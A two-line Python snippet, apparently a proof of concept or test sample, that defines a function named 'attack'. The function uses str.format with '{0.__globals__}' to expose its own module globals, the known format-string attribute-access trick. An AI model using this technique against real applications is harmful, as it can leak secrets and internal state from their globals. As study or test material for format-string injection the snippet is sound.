def attack():
    return {"proof": list(map(str.format, ["{0.__globals__}"], [attack]))}
